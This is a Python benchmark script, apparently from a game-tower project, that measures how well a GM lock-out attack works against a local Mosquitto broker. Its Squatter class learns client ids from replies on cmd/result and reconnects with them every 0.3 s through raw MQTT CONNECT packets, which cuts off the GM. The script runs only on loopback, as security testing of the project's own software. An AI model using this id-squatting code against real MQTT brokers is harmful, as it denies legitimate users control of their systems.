"""Red-team figures for the GM lock-out (issue 37, item 1): a tower on its own LAN Mosquitto,
the GM signed in on the page in Chromium (and, beside it, `tidetower gm` over paho), and an
anonymous guest who reads every reply on `cmd/result`, takes the part of each reply id before
its count as the client id that sent it, and connects with that id every 0.3 s, which
Mosquitto answers by cutting off whoever held it.

Prints, for each GM, how many commands the tower answered of those sent during the attack.
Run: python bench/gm_lockout.py [--page 19] [--cli 10]
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import click

from tidetower.engine.table import Table
from tidetower.mqtt.client import BrokerClient, Message
from tidetower.mqtt.display.server import DisplayServer
from tidetower.mqtt.gm_cli import send
from tidetower.mqtt.lan import GM_USER
from tidetower.mqtt.runtime import table_link
from tidetower.mqtt.settings import MqttSettings
from tidetower.mqtt.topics import Topics

if TYPE_CHECKING:
    from playwright.sync_api import Page

EVERY = 0.3
"""Seconds between the guest's connects with a learned id (the red team's pace)."""
PACE = 1.0
"""Seconds between the GM's commands: 19 in some 20 s, as the red team sent them."""
WAIT = 20.0


def _text(value: str) -> bytes:
    data = value.encode()
    return struct.pack("!H", len(data)) + data


def squat(port: int, client_id: str) -> socket.socket:
    """A raw anonymous MQTT 3.1.1 CONNECT with `client_id` (its CONNACK left unread)."""
    body = _text("MQTT") + bytes([4, 0x02]) + struct.pack("!H", 60) + _text(client_id)
    guest = socket.create_connection(("127.0.0.1", port), WAIT)
    guest.sendall(bytes([0x10, len(body)]) + body)
    return guest


def sender_id(reply_id: str) -> list[str]:
    """The client ids a reply id gives away: the page's `<client id>-<count>`, and the
    `tidetower-gm-<id>` that `tidetower gm` connected with for request `<id>`."""
    return [reply_id.rsplit("-", 1)[0], f"tidetower-gm-{reply_id}"]


class Squatter:
    """An anonymous guest who learns client ids from `cmd/result` and takes each over, again
    and again: `learned` holds what it tried, `takeovers` how many connects it made."""

    def __init__(self, settings: MqttSettings, every: float = EVERY) -> None:
        guest = settings.model_copy(update={"username": None, "password_file": None})
        self.port, self.every = settings.port, every
        self.learned: set[str] = set()
        self.takeovers = 0
        self.learnt = threading.Event()
        """Set once a reply has given an id away."""
        self.attacked = threading.Event()
        """Set once the guest has connected with a learned id."""
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._reader = BrokerClient(guest, "guest-reader")
        self._reader.subscribe(Topics.of(settings).command_result, self._read, qos=1)
        self._thread = threading.Thread(target=self._attack, name="squatter", daemon=True)

    def _read(self, message: Message) -> None:
        reply_id = json.loads(message.payload).get("id")
        if isinstance(reply_id, str):
            with self._lock:
                self.learned.update(sender_id(reply_id))
            self.learnt.set()

    def _attack(self) -> None:
        held: list[socket.socket] = []
        while not self._stop.wait(self.every):
            with self._lock:
                ids = sorted(self.learned)
            taken = [guest for guest in map(self._squat, ids) if guest is not None]
            self.takeovers += len(taken)
            for old in held:
                old.close()
            held = taken
            if taken:
                self.attacked.set()
        for guest in held:
            guest.close()

    def _squat(self, client_id: str) -> socket.socket | None:
        try:
            return squat(self.port, client_id)
        except OSError:
            return None

    def __enter__(self) -> Squatter:
        self._reader.start()
        assert self._reader.wait_connected(WAIT) and self._reader.wait_subscribed(WAIT)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(WAIT)
        self._reader.stop()


def lan_settings(free: Iterator[int]) -> MqttSettings:
    """A LAN table whose broker listens on loopback only."""
    return MqttSettings(port=next(free), ws_port=next(free), lan=True, bind="127.0.0.1")


def gm_settings(settings: MqttSettings, token_file: Path) -> MqttSettings:
    """`tidetower gm`'s login on the LAN table: user gm, the token as its password."""
    login = {"username": GM_USER, "password_file": str(token_file)}
    return settings.model_copy(update={"host": "127.0.0.1", **login})


def cli_answered(settings: MqttSettings, count: int, pace: float = PACE) -> int:
    """How many of `count` `tidetower gm declare` commands, one every `pace` seconds, the
    tower answered."""
    answered = 0
    for n in range(count):
        sent = time.monotonic()
        try:
            reply = send(settings, "declare", {"id": f"cli-bench-{n}", "actor": f"c{n}"}, 5.0)
            answered += bool(reply.get("ok"))
        except click.ClickException:  # no reply, or the broker out of reach
            pass
        time.sleep(max(0.0, pace - (time.monotonic() - sent)))
    return answered


PAGE_SAID = (
    "/^declare: (done|no reply|not connected)/"
    ".test(document.getElementById('cmd-status').textContent)"
)


def page_answered(page: Page, count: int, pace: float = PACE) -> int:
    """How many of `count` declares sent from the signed-in page, one every `pace` seconds
    (or as its reply or refusal comes, if later), the tower answered."""
    answered = 0
    for n in range(count):
        sent = time.monotonic()
        page.evaluate(f"send('declare', {{actor: 'p{n}'}})")
        page.wait_for_function(PAGE_SAID, timeout=WAIT * 1000)
        answered += page.locator("#cmd-status").text_content() == "declare: done"
        page.wait_for_timeout(max(0.0, pace - (time.monotonic() - sent)) * 1000)
    return answered


@contextmanager
def gm_page(url: str, token: str) -> Iterator[Page]:
    """The page in headless Chromium, signed in as the GM."""
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", headless=True)
        page = browser.new_page()
        page.goto(url)
        page.locator("#connection summary").click()
        page.locator("#form-login [name=password]").fill(token)
        page.locator("#form-login button").click()
        expect(page.locator("#link")).to_have_text("broker online as gm", timeout=WAIT * 1000)
        yield page
        browser.close()


def _free_ports() -> Iterator[int]:
    """Ports free on loopback now, each once."""
    given: set[int] = set()
    while True:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port: int = probe.getsockname()[1]
        if port not in given:
            given.add(port)
            yield port


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--page", type=int, default=19, help="commands from the page")
    parser.add_argument("--cli", type=int, default=10, help="commands from tidetower gm")
    args = parser.parse_args()
    free = _free_ports()
    settings = lan_settings(free)
    with tempfile.TemporaryDirectory() as folder:
        table = Table(Path(folder) / "s.db")
        with table_link(table, settings), DisplayServer(settings, port=next(free)) as server:
            token_file = Path(folder) / "gm-token"
            with gm_page(server.url, token_file.read_text().strip()) as page:
                page_answered(page, 1)  # the reply the guest learns the page's id from
                with Squatter(settings) as guest:
                    on_page = page_answered(page, args.page)
                    by_cli = cli_answered(gm_settings(settings, token_file), args.cli)
    print(f"page GM (Chromium, WebSockets): {on_page} of {args.page} commands answered")
    print(f"tidetower gm (paho, TCP): {by_cli} of {args.cli} commands answered")
    print(f"the guest tried {len(guest.learned)} learned ids, {guest.takeovers} connects")


if __name__ == "__main__":
    main()
